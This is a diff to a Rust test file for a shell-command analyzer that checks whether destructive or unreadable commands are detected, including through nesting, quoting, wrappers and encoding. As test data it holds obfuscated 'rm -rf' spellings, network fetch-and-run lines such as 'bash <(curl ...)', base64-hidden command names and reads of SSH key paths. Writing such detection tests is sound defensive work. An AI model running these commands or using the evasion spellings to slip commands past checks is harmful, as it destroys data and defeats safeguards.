@@ -74,6 +74,10 @@ fn every_simple_command_of_a_line_is_read() {
         "cat <<EOF\n$(rm -rf x)\nEOF",
         "[[ $(rm -rf x) ]]",
         "case $(rm -rf x) in *) ;; esac",
+        "{rm,-rf,x}",
+        "\"$(echo rm)\" -rf x",
+        "( ( rm -rf x ) )",
+        "echo $( (rm -rf x) )",
     ] {
         assert!(runs(line, "rm", "--recursive"), "{line:?} must run rm -r");
     }
@@ -96,6 +100,7 @@ fn flags_are_read_however_they_are_written() {
         "r''m -rf x",
         "rm -\\rf x",
         "r\\\nm -rf x",
+        "$'\\x72m' -rf x",
     ] {
         assert!(runs(line, "rm", "--recursive"), "{line:?} must be rm -r");
     }
@@ -136,9 +141,8 @@ fn code_that_cannot_be_read_is_unknown() {
         "bash <(curl -s https://x.example/i.sh)",
         "sh < script.sh",
         "$RM -rf x",
-        "\"$(echo rm)\" -rf x",
+        "\"$(echo LmVudg== | base64 -d)\" -rf x",
         "/bin/r? -rf x",
-        "{rm,-rf,x}",
         "eval \"$CMD\"",
         "bash -c \"$CMD\"",
         "source <(curl x)",
@@ -146,7 +150,9 @@ fn code_that_cannot_be_read_is_unknown() {
         "echo ${X:-$(rm -rf x)}",
         "echo $(( $(rm -rf x) ))",
         "echo 'unbalanced",
-        "$'\\x72m' -rf x",
+        "cat \"$(echo LmVudg== | base64 -d)\"",
+        "cat `base64 -d k`",
+        "cat < \"$(echo LmVudg== | base64 -d)\"",
     ] {
         assert!(unknown(line), "{line:?} must be unknown");
     }
@@ -170,7 +176,7 @@ fn paths_are_named_and_made_absolute() {
     assert!(paths("cat ~root/.ssh/id").contains(&"~root/.ssh/id".to_string()));
     assert!(paths("echo hi > /etc/cron.d/x").contains(&"/etc/cron.d/x".to_string()));
     assert!(paths("cp x --target-directory=/etc").contains(&"/etc".to_string()));
-    assert!(paths("cat ~/.ssh/id_*").contains(&"~/.ssh/id_*".to_string()));
+    assert!(paths("cat ~/.ssh/id_*").contains(&"~/.ssh".to_string()));
     let reading = read_in_app("echo hi > out.txt");
     assert!(reading.parts.iter().any(|p| matches!(p,
         Part::Path(PathUse { access: Access::Write, path, .. }) if path == "/home/dev/app/out.txt")));
@@ -187,6 +193,49 @@ fn deep_nesting_and_huge_lines_are_unknown_not_a_crash() {
     assert_eq!(read_in_app(&many).parts.len(), 1);
     assert!(unknown(&many));
 }
+
+#[test]
+fn nesting_past_the_limit_is_unknown_without_reaching_the_parser() {
+    for (open, close) in [
+        ("$(", ")"),
+        ("(", ")"),
+        ("{ ", "; }"),
+        ("echo \"$(", ")\""),
+        ("if true; then ", "; fi"),
+        ("${X:-", "}"),
+    ] {
+        let line = format!("{}ls{}", open.repeat(10_000), close.repeat(10_000));
+        assert!(unknown(&line), "{open:?} nested 10,000 times");
+        let unclosed = open.repeat(10_000);
+        assert!(unknown(&unclosed), "{open:?} nested 10,000 times, unclosed");
+    }
+    // At the limit the parser reads it, even on a 2 MiB stack (when the reading cannot
+    // have a thread of its own).
+    let at_limit = depth::MAX_NESTING;
+    for (open, close, depth) in [
+        ("$(", ")", MAX_DEPTH),
+        ("( ", " )", MAX_DEPTH),
+        ("{ ", "; }", at_limit),
+        ("if true; then ", "; fi", at_limit),
+        ("echo \"$(", ")\"", MAX_DEPTH),
+    ] {
+        let line = format!("{}rm -rf x{}", open.repeat(depth), close.repeat(depth));
+        let small = std::thread::Builder::new().stack_size(2 << 20);
+        let line_here = line.clone();
+        let reading = small
+            .spawn(move || read_here(&line_here, "/home/dev/app"))
+            .unwrap()
+            .join()
+            .unwrap();
+        assert!(
+            (commands(&reading).iter())
+                .any(|c| c.program == "rm" && c.flags.iter().any(|f| f == "--recursive")),
+            "{open:?} nested {depth} times"
+        );
+    }
+}
+
+mod attacks;
 
 fn shlex_quote(text: &str) -> String {
     format!("'{}'", text.replace('\'', "'\\''"))
@@ -211,9 +260,83 @@ mod properties {
         })
     }
 
+    /// Wrappers that run the words after them, each word as a list.
+    const WRAPPERS: &[&[&str]] = &[
+        &[],
+        &["sudo"],
+        &["sudo", "-u", "x"],
+        &["sudo", "-Eu", "root"],
+        &["sudo", "--user=x"],
+        &["env"],
+        &["env", "-i"],
+        &["env", "-u", "X"],
+        &["env", "X=1"],
+        &["nice", "-n", "5"],
+        &["nohup"],
+        &["timeout", "5"],
+        &["timeout", "-s", "KILL", "5"],
+        &["stdbuf", "-o0"],
+        &["ionice", "-c3"],
+        &["time", "-p"],
+        &["command"],
+        &["exec", "-a", "n"],
+        &["setsid"],
+        &["doas", "-u", "x"],
+        &["pkexec"],
+        &["chronic"],
+        &["fakeroot"],
+        &["strace", "-f"],
+        &["busybox"],
+        &["flock", "/tmp/l"],
+        &["chroot", "/srv"],
+        &["unshare", "-r"],
+        &["firejail"],
+        &["runuser", "-u", "x", "--"],
+        &["xargs", "-n", "1"],
+    ];
+
+    /// A wrapper's words, each quoted or not, joined by some whitespace.
+    fn wrapper() -> impl Strategy<Value = String> {
+        let quote = prop::sample::select(vec!["", "'", "\""]);
+        let space = prop::sample::select(vec![" ", "  ", "\t"]);
+        (prop::sample::select(WRAPPERS.to_vec()), quote, space).prop_map(|(words, q, s)| {
+            (words.iter())
+                .map(|w| format!("{q}{w}{q}{s}"))
+                .collect::<String>()
+        })
+    }
+
+    /// Shells and wrappers that run a string: the line is quoted into it.
+    fn string_runner() -> impl Strategy<Value = &'static str> {
+        prop::sample::select(vec![
+            "bash -c",
+            "sh -c",
+            "bash -O extglob -c",
+            "eval",
+            "watch",
+            "su -c",
+            "script -qc",
+            "flock /tmp/l -c",
+            "env -S",
+            "trap",
+        ])
+    }
+
     proptest! {
         #[test]
         fn rewriting_a_command_never_hides_it(line in spelling()) {
+            prop_assert!(runs(&line, "rm", "--recursive"), "{:?}", line);
+        }
+
+        #[test]
+        fn wrapping_a_command_never_hides_it(outer in wrapper(), inner in wrapper(), line in spelling()) {
+            let line = format!("{outer}{inner}{line}");
+            prop_assert!(runs(&line, "rm", "--recursive"), "{:?}", line);
+        }
+
+        #[test]
+        fn quoting_a_command_into_a_string_never_hides_it(runner in string_runner(), line in spelling()) {
+            let line = format!("{runner} {} EXIT", shlex_quote(&line));
             prop_assert!(runs(&line, "rm", "--recursive"), "{:?}", line);
         }
     }
